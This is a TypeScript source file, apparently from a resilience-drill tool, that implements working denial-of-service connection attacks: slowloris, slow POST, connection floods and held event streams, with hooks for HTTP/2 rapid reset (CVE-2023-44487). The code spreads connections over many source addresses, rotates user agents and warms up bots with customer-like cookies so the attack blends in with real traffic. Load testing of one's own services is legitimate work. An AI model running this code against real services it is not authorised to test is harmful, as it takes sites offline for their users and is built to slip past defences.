import type { Socket } from 'node:net';
import { openTargetSocket, targetScheme } from './tls-target.js';
import { createAttackCounters, recordAnswer, recordSent, type AttackCounters } from './metrics.js';
import type { AttackEnv } from './attack-env.js';
import { randomToken } from './rng.js';
import { drillLocalPorts } from './local-ports.js';
import { browseFirst, type BrowsingBot, type WarmupReport, type WarmupSpec } from './warmup.js';

/**
 * Connection attacks: slowloris (a request head that never ends, one header line at a time),
 * slow POST (a complete head announcing a body that trickles in a few bytes at a time), slow
 * read (complete GETs whose large answers are read a few bytes at a time, see slow-read.ts), the
 * connection flood (connect, then close at once without a byte: the target pays an accept, a
 * socket and a close per connection, and no request ever shows) and the stream hold (an event
 * stream asked for as a browser's EventSource asks — WHATWG HTML §9.2 — and held, every event read:
 * nothing slow about it, a live page left open, by the thousand). They hold or open connections
 * rather than send requests: "sent" counts connections opened.
 */
export interface SlowSpec {
  label: string;
  /**
   * `connect`: a connection flood — each connection is closed by the client once established, sending nothing.
   * `stream`: an event stream (Server-Sent Events) asked for as EventSource asks and held, read as it comes.
   * `h2-reset`: HTTP/2 rapid reset (CVE-2023-44487) — over TLS with ALPN h2, `streamsPerInterval`
   * requests each opened (HEADERS) and cancelled (RST_STREAM) at once, every interval.
   * `h2-body`: slow POST on HTTP/2 streams — `streamsPerInterval` streams held open on each
   * connection, each announcing `bodyBytes` and sending `chunkBytes` per interval (drill/h2-slow.ts).
   */
  kind: 'headers' | 'body' | 'read' | 'websocket' | 'connect' | 'stream' | 'h2-reset' | 'h2-body';
  /** Source addresses the connections are spread over. */
  sources: number;
  /** Connections held at once, over all sources. */
  connections: number;
  /** New connections per second, at most (reopening closed ones included). */
  openRatePerS: number;
  /** One header line (slowloris), `chunkBytes` body bytes (slow POST), one read of `readBytes` (slow read) or one ping (WebSocket hold) per connection every intervalMs. */
  intervalMs: number;
  /** Slow POST: body bytes sent per interval (default 1). */
  chunkBytes?: number;
  /** Slow read: bytes read from the socket per interval, at most. */
  readBytes?: number;
  /**
   * WebSocket: each interval sends a text message (the live page's refresh, which the application
   * answers with a lookup) instead of a ping — a message flood inside tunnels a proxy only relays.
   */
  messages?: boolean;
  /**
   * WebSocket and stream: before the attack each source browses like a customer (drill/warmup.ts)
   * and its tunnels' handshakes (its streams' requests) carry the cookies it kept — bots that hold
   * what customers hold.
   */
  warmup?: WarmupSpec;
  /**
   * Stream: the Accept its requests send (default `text/event-stream`, what EventSource sends);
   * `*∕*` is a fetch() reading the stream, which nothing announces until the response's head.
   */
  accept?: string;
  /** HTTP/2 rapid reset: streams opened and cancelled per connection every interval; `h2-body`: streams held open per connection. */
  streamsPerInterval?: number;
  /** Path requested; slow POST targets a form that accepts bodies. */
  path: string;
  /** Content-Length announced by slow POST. */
  bodyBytes: number;
  startS: number;
  stopS: number;
}

/** A slow attack's environment: the run's sources and where to connect. */
export interface SlowEnv extends AttackEnv {
  host: string;
  port: number;
  hostHeader: string;
  /** The target is https://: each connection makes its TLS handshake first (drill/tls-target.ts). */
  tls?: boolean;
}

export interface RunningSlow {
  counters: AttackCounters;
  /** Connections held right now. */
  readonly held: number;
  /** Longest time a connection was held before the target closed it, ms (0 if none closed). */
  readonly longestHeldMs: number;
  /** Slow read: response bytes actually read from the sockets, and responses read to their end. */
  readonly bytesRead?: number;
  readonly responsesCompleted?: number;
  /** WebSocket message flood: text messages written into the tunnels. */
  readonly messagesSent?: number;
  /** HTTP/2 attacks: streams opened (rapid reset: a HEADERS and a RST_STREAM each). */
  readonly streamsSent?: number;
  /** Warm-up (WebSocket with `warmup`): page loads made and answered 2xx/3xx, sources holding a cookie when the attack began. */
  readonly warmup?: WarmupReport;
  done: Promise<void>;
}

/** What `holdConnections` needs from one slow attack: how to open one connection and what to do each interval. */
export interface SlowDriver {
  /** Opens connection number `idx` (its source is `addresses[idx % n]`); returns the socket to track. */
  open(idx: number, address: string | undefined): Socket;
  /** Called for each held, connected socket every `intervalMs`, from about `intervalMs` after it opened. */
  trickle(socket: Socket): void;
}

/**
 * The loop every slow attack shares: opens connections at `openRatePerS` up to `connections` held,
 * round-robin over the sources, reopens what the target closes, calls `trickle` for each socket
 * every interval on that socket's own phase, samples the held count each 250 ms, and destroys
 * everything at the end of the window.
 */
export function holdConnections(spec: SlowSpec, env: SlowEnv, driver: SlowDriver): { counters: AttackCounters; held: Set<Socket>; longestHeldMs(): number; done: Promise<void> } {
  const counters = createAttackCounters(spec.label, 'slow', env.seconds);
  const held = new Set<Socket>();
  let owed = 0;
  let issued = 0;
  let cursor = 0;
  let lastMs = env.now();
  let longestHeldMs = 0;

  // Each connection trickles on a phase of its own, about `intervalMs` after it opened and every
  // `intervalMs` after that, as real clients' timers do; one timer for every socket at once stalled
  // the drill's event loop (websocket-hold: 7,000–9,000 pings in one tick, a 470 ms stall that
  // landed in the customers' measured latency). A wheel of 20 ms slots: each tick runs the slots
  // whose time has come, each socket sits in one slot.
  const slotMs = 20;
  const slots = Math.max(1, Math.round(spec.intervalMs / slotMs));
  const wheel: Array<Set<Socket>> = Array.from({ length: slots }, () => new Set<Socket>());
  const wheelStartMs = env.now();
  let slotsRun = 0;

  const open = (): void => {
    const idx = cursor++;
    const socket = driver.open(idx, env.addresses[idx % env.addresses.length]);
    const openedMs = env.now();
    held.add(socket);
    // The slot just run comes round again one interval from now.
    const slot = wheel[(slotsRun + slots - 1) % slots]!;
    slot.add(socket);
    socket.once('connect', () => recordSent(counters, env.now()));
    socket.on('error', () => undefined);
    socket.once('close', () => {
      slot.delete(socket);
      if (!held.delete(socket)) return;
      longestHeldMs = Math.max(longestHeldMs, env.now() - openedMs);
    });
  };

  const tick = (): void => {
    const now = env.now();
    const dt = (now - lastMs) / 1000;
    lastMs = now;
    const tS = now / 1000;
    if (tS < spec.startS || tS >= spec.stopS) return;
    counters.activeSeconds += dt;
    owed += spec.openRatePerS * dt;
    const due = Math.floor(owed) - issued;
    if (due <= 0) return;
    issued += due;
    for (let i = 0; i < due; i++) {
      // Attackers keep the pool full: a slot only opens when the target closed a connection.
      if (held.size >= spec.connections) break;
      counters.requested++;
      open();
    }
  };

  const trickle = (): void => {
    const due = Math.floor((env.now() - wheelStartMs) / slotMs);
    // Bounded: a stalled loop catches up at most one round (each socket once).
    for (let n = 0; slotsRun < due && n < slots; n++, slotsRun++) {
      for (const socket of wheel[slotsRun % slots]!) if (socket.writable && !socket.connecting) driver.trickle(socket);
    }
    slotsRun = Math.max(slotsRun, due);
  };

  const sample = (): void => {
    const i = Math.floor(env.now() / 1000);
    if (i >= 0 && i < counters.heldPerSecond.length) counters.heldPerSecond[i] = Math.max(counters.heldPerSecond[i]!, held.size);
  };

  const done = (async () => {
    const timers = [setInterval(tick, 20), setInterval(trickle, slotMs), setInterval(sample, 250)];
    await new Promise<void>((resolve) => {
      const stopAt = setTimeout(resolve, Math.max(0, spec.stopS * 1000 - env.now()));
      env.signal.addEventListener('abort', () => { clearTimeout(stopAt); resolve(); }, { once: true });
    });
    timers.forEach(clearInterval);
    for (const socket of held) socket.destroy();
    held.clear();
    for (const slot of wheel) slot.clear();
  })();
  return { counters, held, longestHeldMs: () => longestHeldMs, done };
}

/** Starts slowloris, slow POST or a connection flood; connections are spread round-robin over the source addresses. */
export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
  const head = (idx: number): string => {
    const id = env.identities[idx % env.identities.length]!;
    if (spec.kind === 'stream') {
      const bot = bots?.[idx % bots.length];
      const ua = bot?.identity ?? id;
      const cookie = bot && bot.cookies.size > 0 ? [`Cookie: ${[...bot.cookies].map(([k, v]) => `${k}=${v}`).join('; ')}`] : [];
      return [`GET ${spec.path}${randomToken(env.rng, 11)} HTTP/1.1`, `Host: ${env.hostHeader}`, `User-Agent: ${ua.userAgent}`,
        `Accept: ${spec.accept ?? 'text/event-stream'}`, 'Cache-Control: no-cache', `Accept-Language: ${ua.acceptLanguage}`, ...cookie, '', ''].join('\r\n');
    }
    const lines = [
      `${spec.kind === 'body' ? 'POST' : 'GET'} ${spec.path}${spec.kind === 'headers' ? `?${randomToken(env.rng, 6)}=${randomToken(env.rng, 8)}` : ''} HTTP/1.1`,
      `Host: ${env.hostHeader}`,
      `User-Agent: ${id.userAgent}`,
      'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
      `Accept-Language: ${id.acceptLanguage}`,
    ];
    if (spec.kind === 'body') {
      lines.push('Content-Type: application/x-www-form-urlencoded', `Content-Length: ${spec.bodyBytes}`, '', '');
    }
    return lines.join('\r\n') + (spec.kind === 'headers' ? '\r\n' : '');
  };
  const chunk = 'a'.repeat(Math.max(1, spec.chunkBytes ?? 1));
  const answered = new WeakSet<Socket>();
  // Streams with a warm-up: each source is a bot that browsed first; connection idx is its source's, with its jar.
  const bots: BrowsingBot[] | undefined = spec.kind === 'stream' && spec.warmup
    ? env.addresses.map((address, i) => ({ index: i, address, identity: env.identities[i % env.identities.length]!, cookies: new Map<string, string>() }))
    : undefined;
  const warm: WarmupReport | undefined = bots ? { pages: 0, ok: 0, botsWithCookies: 0 } : undefined;
  if (bots && spec.warmup) {
    void browseFirst(spec.warmup, spec.startS, { ...env, origin: `${targetScheme(env)}://${env.hostHeader}` }, bots, warm!)
      .then(() => { warm!.botsWithCookies = bots.filter((b) => b.cookies.size > 0).length; });
  }
  const h = holdConnections(spec, env, {
    open(idx, address) {
      const { socket, ready } = openTargetSocket(env, address ? { localAddress: address, localPort: drillLocalPorts.next(address) } : {});
      socket.setNoDelay(true);
      // A connection flood closes as a connect()/close() loop does: a FIN right after the handshake
      // (over TLS, the TLS handshake: connect, handshake, leave).
      socket.once(ready, () => (spec.kind === 'connect' ? socket.end() : socket.write(head(idx))));
      socket.on('data', (buf: Buffer) => {
        if (answered.has(socket)) return;
        answered.add(socket);
        const m = /^HTTP\/1\.[01] (\d{3})/.exec(buf.toString('latin1', 0, 16));
        recordAnswer(h.counters, env.now(), m ? m[1]! : 'data');
        // A stream refused is an answer: the attacker closes and the pool opens another.
        if (spec.kind === 'stream' && m?.[1] !== '200') socket.destroy();
      });
      // The client closes a connection flood's sockets itself: no answer to count.
      if (spec.kind !== 'connect') socket.once('close', () => { if (!answered.has(socket) && h.held.has(socket)) recordAnswer(h.counters, env.now(), 'closed'); });
      return socket;
    },
    trickle(socket) {
      // A held stream is read as it comes (the socket flows); nothing to send.
      if (spec.kind === 'connect' || spec.kind === 'stream') return;
      socket.write(spec.kind === 'headers' ? `X-${randomToken(env.rng, 5)}: ${randomToken(env.rng, 6)}\r\n` : chunk);
    },
  });
  return { counters: h.counters, get held() { return h.held.size; }, get longestHeldMs() { return h.longestHeldMs(); }, done: h.done, ...(warm ? { warmup: warm } : {}) };
}
